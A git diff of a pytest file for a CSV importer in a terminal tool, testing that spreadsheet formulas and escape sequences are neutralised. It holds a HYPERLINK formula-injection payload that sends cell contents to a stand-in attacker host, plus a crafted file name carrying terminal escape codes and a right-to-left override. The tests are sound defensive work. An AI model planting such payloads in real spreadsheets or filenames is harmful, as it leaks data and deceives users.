@@ -6,12 +6,14 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
+import pytest
 from sqlalchemy.orm import Session, sessionmaker
 
 from gridtui.data.importer import import_file, load_map
 from tests.conftest import FIXTURES, NOW
 
 SAMPLE = FIXTURES / "samples" / "hotline12345-sample.csv"
+MAP = FIXTURES / "maps" / "hotline12345.toml"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -34,3 +36,21 @@ def test_formulas_in_the_rejects_file_are_not_formulas(
     assert row["external_id"] == "'" + FORMULA, row
     assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
     assert row["line"] == "2" and "HYPERLINK" in row["row"] and "@SUM" in row["reason"]
+
+
+def test_gridtui_import_output_never_carries_a_name_s_escapes(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from gridtui.cli import main
+    from gridtui.data.db import upgrade
+
+    url = f"sqlite:///{tmp_path}/city.sqlite"
+    upgrade(url)
+    bad = tmp_path / "x\x1b]0;pwned\x07\u202e\nFORGED.csv"
+    bad.write_text("not,a\nwork,order\n", encoding="utf-8")
+    code = main(["--db", url, "import", str(bad), "--map", str(MAP)])
+    out = capsys.readouterr()
+    assert code == 1
+    text = out.out + out.err
+    assert "x<U+202E>" in text and "\x1b" not in text and "\x07" not in text
+    assert "\u202e" not in text
